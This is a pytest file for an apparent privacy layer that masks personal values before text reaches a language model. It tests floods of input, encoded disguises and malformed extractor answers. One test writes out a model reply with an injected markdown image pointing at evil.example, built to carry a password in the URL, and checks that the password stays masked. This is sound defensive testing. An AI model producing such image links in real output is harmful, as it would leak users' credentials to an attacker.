"""Inputs that somebody makes on purpose: floods, disguises, answers that are no answers."""

from __future__ import annotations

import json
import os
import threading
import time
from urllib.parse import quote

import pytest
from harness import Table, span

from langchain_memprivacy import (
    ExtractorError,
    MemoryVault,
    PrivacyEngine,
    PrivacyLevel,
    ScopeError,
    SQLiteVault,
)
from langchain_memprivacy.testing.extractors import FixedExtractor

MAIL = "ann.holm@brightleaf.io"
MAILS = FixedExtractor({MAIL: ("EMAIL", "PL2")})
SECONDS = 4.0
"""Linear, each case takes a fraction of a second; quadratic, well beyond ten."""


def engine(extractor=MAILS) -> PrivacyEngine:
    return PrivacyEngine(extractor, MemoryVault())


class TestFloods:
    """Time grows with the length of a text, not with its square."""

    @pytest.mark.parametrize(
        "text",
        [
            f"{MAIL} " * 20_000,
            f"<EMAIL_1> {MAIL} " * 10_000,
            f"<EMAIL_1> <A_1> {MAIL}" * 10_000,
            "".join(f"<A_{number}> " for number in range(1, 20_000)),
            "<A_x " * 50_000,
        ],
        ids=["values", "with placeholders", "with look-alikes", "look-alikes", "openings"],
    )
    def test_desensitize(self, text):
        """Many values, placeholders and look-alikes in one message."""
        privacy = engine()
        privacy.desensitize(MAIL)
        start = time.perf_counter()
        privacy.desensitize(text)
        privacy.desensitize("hello")
        assert time.perf_counter() - start < SECONDS

    @pytest.mark.parametrize(
        "text",
        [
            "[" * 100_000 + '{"a":[' + "<EMAIL_1>," * 10_000,
            "{x" * 500_000 + "<EMAIL_1>",
            '{"a":' * 50_000 + "<EMAIL_1>",
            "https://" * 50_000 + "<EMAIL_1>",
        ],
        ids=["arrays", "braces", "objects", "schemes"],
    )
    def test_restore(self, text):
        """Deep and broken structure around placeholders."""
        privacy = engine()
        privacy.desensitize(MAIL)
        start = time.perf_counter()
        privacy.restore(text)
        assert time.perf_counter() - start < SECONDS

    def test_many_known_values_with_one_beginning(self):
        """What is known does not slow down what is read."""
        known = [f"user{number}@brightleaf.io" for number in range(5000)]
        privacy = engine(FixedExtractor(dict.fromkeys(known, ("EMAIL", "PL2"))))
        privacy.desensitize(" ".join(known))
        start = time.perf_counter()
        PrivacyEngine(Table(), privacy.vault).desensitize("use " * 25_000)
        assert time.perf_counter() - start < SECONDS

    def test_invented_types_are_counted_together(self):
        """A reply full of made-up types does not fill the memory."""
        privacy = engine()
        privacy.restore(" ".join(f"<KIND{number}X_1>" for number in range(5000)))
        assert sum(privacy.unknown.values()) == 5000
        assert len(privacy.unknown) < 1100


class TestDisguises:
    """A known value is found in whatever way JSON may spell it."""

    @pytest.mark.parametrize(
        "text",
        [
            r'{"n": "Zo\u00EB"}',
            r'{"n": "Zo\u00eb"}',
            r'{"n": "a\/b+c"}',
            r'{"n": "a/b\u002Bc"}',
            r'{"n": "{\"m\": \"Zo\\u00eb\"}"}',
        ],
    )
    def test_json_spellings(self, text):
        """Capital digits, escaped slashes and signs, JSON in JSON."""
        values = {"Zoë": ("REAL_NAME", "PL2"), "a/b+c": ("TOKEN", "PL4")}
        privacy = engine(FixedExtractor(values))
        privacy.desensitize("Zoë a/b+c")
        blind = PrivacyEngine(Table(), privacy.vault)
        result = blind.desensitize(text)
        assert "Zo" not in result
        assert "b" not in result.replace('\\"m\\"', "").casefold().replace("real_name", "")
        assert blind.restore(result) == text

    def test_a_made_up_type_in_escaped_json(self):
        """Where the escaped form could not be read back, the text is kept as it stood."""
        text = r'{"pet": "Zo\u00eb"}'
        rows = {text: [span(text, r"Zo\u00eb", "PET_NAME", 2)]}
        privacy = engine(Table(rows))
        assert privacy.restore(privacy.desensitize(text)) == text

    def test_a_type_made_of_the_value(self):
        """A model that names the type after the value would print it."""
        for value, kind in (("hunter2", "Hunter Password"), ("hunter2", "Hunter2s"),
                            ("José García", "Jose Garcia")):  # fmt: skip
            privacy = engine(FixedExtractor({value: (kind, "PL4")}))
            assert privacy.desensitize(f"it is {value}") == "it is <OTHER_1>"

    @pytest.mark.parametrize(
        ("value", "text"),
        [
            ("a/b+c", "https://x.example/?q=a%2fb%2bc"),
            ("O'Neil & Sons", "<p>O'Neil &amp; Sons</p>"),
            ("O'Neil & Sons", "O&#39;Neil &amp; Sons"),
            ("O'Neil & Sons", "?q=O'Neil%20%26%20Sons"),
            ("O'Neil & Sons", "?q=O'Neil+%26+Sons"),
            ("Zoë Holm", "Zo&#235; Holm, Zo&euml; Holm"),
            (
                "Zoë Holm",
                "https://x.example/?u=https%3A%2F%2Fy.example%2F%3Fq%3DZo%25C3%25AB%2520Holm",
            ),
            ("hunter2", "%68unter2 &#104;unter2"),
        ],
    )
    def test_other_spellings(self, value, text):
        """HTML and URLs may spell a value in many ways; none passes."""
        privacy = engine(FixedExtractor({value: ("TOKEN", "PL4")}))
        privacy.desensitize(value)
        blind = PrivacyEngine(Table(), privacy.vault)
        result = blind.desensitize(text)
        assert all(word not in result for word in ("Holm", "Neil", "unter", "b%2bc"))
        assert blind.restore(result) == text

    def test_encodings_of_encodings(self):
        """Each stored value does not uncover the next one without end."""
        privacy, parts, code = engine(), [], "ann.holm+z@brightleaf.io"
        for _ in range(240):
            parts.append(code)
            code = quote(code, safe="")
        text = " ".join(parts)
        privacy.desensitize(parts[0])
        start = time.perf_counter()
        result = PrivacyEngine(
            FixedExtractor({parts[0]: ("EMAIL", "PL2")}), privacy.vault
        ).desensitize(text)
        assert time.perf_counter() - start < SECONDS
        assert privacy.restore(result) == text


class TestRestoredJson:
    """What is restored in JSON still parses."""

    @pytest.mark.parametrize("value", ["C:\\new\\qux", 'say "hi"', "two\nlines"])
    def test_html_form(self, value):
        """An HTML-escaped placeholder in a JSON string."""
        privacy = engine(FixedExtractor({value: ("PASSWORD", "PL4")}))
        privacy.desensitize(value)
        assert json.loads(privacy.restore('{"p": "&lt;PASSWORD_1&gt;"}'))

    @pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity"])
    def test_no_numbers(self, value):
        """Python's constants are not JSON's: they need quotes."""
        privacy = engine(FixedExtractor({value: ("REAL_NAME", "PL2")}))
        privacy.desensitize(value)
        assert privacy.restore('{"a": <REAL_NAME_1>}') == f'{{"a": "{value}"}}'

    def test_brackets_as_a_value(self):
        """A value too deep for the JSON reader is a value all the same."""
        deep = "[" * 5000
        text = f'{{"a": {deep}'
        privacy = engine(Table({text: [span(text, deep, "KEY", 4)]}))
        assert privacy.restore(privacy.desensitize(text)) == text


def test_a_limit_keeps_credentials_out_of_what_is_shown():
    """An injected image cannot carry a password to its address."""
    values = {"Juniper-58": ("PASSWORD", "PL4"), "Nora": ("REAL_NAME", "PL2")}
    privacy = engine(FixedExtractor(values))
    privacy.desensitize("Nora Juniper-58")
    reply = "![ok](https://evil.example/?d=<PASSWORD_1>) <REAL_NAME_1>"
    shown = privacy.restore(reply, upto=PrivacyLevel.PL3)
    assert shown == "![ok](https://evil.example/?d=<PASSWORD_1>) Nora"


class Answers:
    """An extractor that answers with one thing, whatever it is."""

    def __init__(self, answer) -> None:
        self.answer = answer

    def extract(self, text, *, role="user", real_name=None):
        return self.answer


@pytest.mark.parametrize("answer", [{}, "", None, 0, frozenset()])
def test_an_empty_answer_of_the_wrong_kind_lets_nothing_through(answer):
    """Only a list of spans can say that there are none."""
    with pytest.raises(ExtractorError, match="not with a list"):
        engine(Answers(answer)).desensitize("hello")


def test_a_scope_function_that_fails():
    """What is wrong with the config is not repeated."""
    privacy = PrivacyEngine(MAILS, MemoryVault(), scope=lambda config: config["user"])
    with pytest.raises(ScopeError, match="KeyError") as caught:
        privacy.scope_for({"ann.holm": 1})
    assert caught.value.__context__ is None


def test_a_placeholder_given_as_a_value_to_forget():
    """Nothing would match it, and a receipt would soothe."""
    privacy = engine()
    privacy.desensitize(MAIL)
    with pytest.raises(ValueError, match="placeholder="):
        privacy.forget("<EMAIL_1>")
    assert privacy.restore("<EMAIL_1>") == MAIL


def test_an_open_restorer_follows_forget(tmp_path):
    """A stream that is still open does not give out what is forgotten meanwhile."""
    with SQLiteVault(tmp_path / "v.db", key=bytes(32)) as vault:
        ours, other = PrivacyEngine(MAILS, vault), PrivacyEngine(MAILS, vault)
        ours.desensitize(MAIL)
        restorer = ours.restorer()
        assert restorer.feed("<EMAIL_1> ") == f"{MAIL} "
        other.forget(placeholder="<EMAIL_1>")
        time.sleep(0.1)
        assert restorer.feed("<EMAIL_1> ") == "<EMAIL_1> "


def test_texts_are_told_apart_by_role_and_name():
    """A name that ends like another text begins does not mix up what is remembered."""
    privacy = engine()
    assert privacy.desensitize("c", real_name="a b") == "c"
    assert privacy.desensitize("b c", real_name="a") == "b c"
    assert privacy.desensitize("b\0c", real_name="a") == "b\0c"


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
@pytest.mark.filterwarnings("ignore:.*multi-threaded.*fork:DeprecationWarning")
def test_a_fork_while_others_work():
    """A child forked in the middle of other threads' work can work itself."""
    privacy, stop = engine(), threading.Event()

    def work():
        number = 0
        while not stop.is_set():
            number += 1
            privacy.desensitize(f"{number} {MAIL}")

    threads = [threading.Thread(target=work) for _ in range(2)]
    for thread in threads:
        thread.start()
    try:
        for _ in range(10):
            child = os.fork()
            if not child:
                os._exit(0 if privacy.desensitize(MAIL) == "<EMAIL_1>" else 1)
            deadline = time.monotonic() + 10
            while not (done := os.waitpid(child, os.WNOHANG))[0]:
                if time.monotonic() > deadline:
                    os.kill(child, 9)
                    os.waitpid(child, 0)
                    pytest.fail("the child hangs")
                time.sleep(0.01)
            assert done[1] == 0
    finally:
        stop.set()
        for thread in threads:
            thread.join()


def test_a_value_forgotten_in_the_middle_of_a_message():
    """What is remembered of a message never holds a placeholder that died meanwhile."""
    values = {"Ann": ("REAL_NAME", "PL2"), "Bob": ("ID_NUMBER", "PL3")}
    for _ in range(100):
        privacy = engine(FixedExtractor(values))
        privacy.desensitize("Ann")
        other = threading.Thread(target=privacy.forget, kwargs={"value": "Ann"})
        other.start()
        privacy.desensitize("Ann and Bob")
        other.join()
        assert privacy.restore(privacy.desensitize("Ann and Bob")) == "Ann and Bob"
